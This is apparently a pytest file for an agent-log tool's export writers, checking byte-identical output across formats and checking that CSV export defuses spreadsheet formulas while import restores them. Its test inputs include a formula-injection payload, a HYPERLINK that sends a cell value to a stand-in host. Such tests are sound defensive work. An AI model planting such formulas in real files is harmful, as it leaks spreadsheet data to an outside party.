"""Writers: a page of store records writes the same bytes as the same events, in every format."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from agentlog.storage.base import EventQuery, event_record
from agentlog.storage.sqlite.store import SQLiteStore
from agentlog.transfer.export import Selection, export
from agentlog.transfer.writers import FORMATS, make_writer
from tests.support.portability import fill, make_event, make_session


def _write(fmt: str, stream: io.BufferedIOBase, session, events, as_records: bool) -> None:
    writer = make_writer(fmt, stream, exported_at="2026-01-01T00:00:00.000000Z")
    writer.begin_session(session)
    if as_records:
        writer.write_records([event_record(e) for e in events[:2]])
        writer.write_records([])
        writer.write_records([event_record(e) for e in events[2:]])
    else:
        writer.write_events(events[:2])
        for event in events[2:]:
            writer.event(event)
    writer.end_session()
    writer.close()
    assert writer.events == len(events)
    assert writer.bytes == stream.tell()


@pytest.mark.parametrize("fmt", FORMATS)
def test_records_and_events_write_the_same_bytes_to_memory_and_to_a_file(
    fmt: str, tmp_path: Path
) -> None:
    s = make_session(1)
    events = [make_event(s, n, content=c) for n, c in enumerate(['a\nb "q"', "", None, "ünï ✓"])]
    outputs = []
    for as_records in (False, True):
        memory = io.BytesIO()
        _write(fmt, memory, s, events, as_records)
        path = tmp_path / f"{fmt}-{as_records}"
        with open(path, "wb", buffering=1 << 16) as fh:  # a BufferedWriter: the direct path
            _write(fmt, fh, s, events, as_records)
        assert path.read_bytes() == memory.getvalue()
        outputs.append(memory.getvalue())
    assert outputs[0] == outputs[1]


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_from_records_equals_export_through_events(
    fmt: str, store: SQLiteStore, tmp_path: Path
) -> None:
    fill(store, sessions=3, events=7)
    fast, slow = tmp_path / f"fast.{fmt}", tmp_path / f"slow.{fmt}"
    export(store, Selection(all=True), fmt, fast)
    # An identity transform takes the Event path (what share's redaction uses).
    export(store, Selection(all=True), fmt, slow, transform=lambda record: record)
    # Only the first line differs: the export time (NDJSON, JSON) or nothing (the CSV header).
    fast_lines, slow_lines = fast.read_bytes().splitlines(), slow.read_bytes().splitlines()
    assert fast_lines[1:] == slow_lines[1:] and len(fast_lines) > 21
    assert store.list_event_records(EventQuery(limit=1)).items


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tcmd",
        "\rcmd",
        "'=already quoted",
        "''x",
        "'plain",
        "'",
        "plain",
    ],
)
def test_csv_neutralises_formulas_and_import_restores_them(store, other, tmp_path, text) -> None:
    import csv as csvmod

    from agentlog.model import Event, Session
    from agentlog.storage.base import EventQuery
    from agentlog.transfer.export import Selection, export
    from agentlog.transfer.importer import import_file
    from agentlog.transfer.writers import FORMULA_TRIGGERS

    session = Session(title=text, description=text)
    event = Event(session_id=session.id, type="LOG", content=text, name=text, agent_id=text)
    store.write([session], [event])
    out = tmp_path / "x.csv"
    export(store, Selection(all=True), "csv", out)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csvmod.reader(fh))
    for row in rows[1:]:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), row
    report = import_file(other, out)
    assert report.ok, report.to_dict()
    (back,) = other.list_events(EventQuery(session_id=session.id)).items
    assert (back.content, back.name, back.agent_id) == (text, text, text)
    assert other.get_session(session.id).title == text
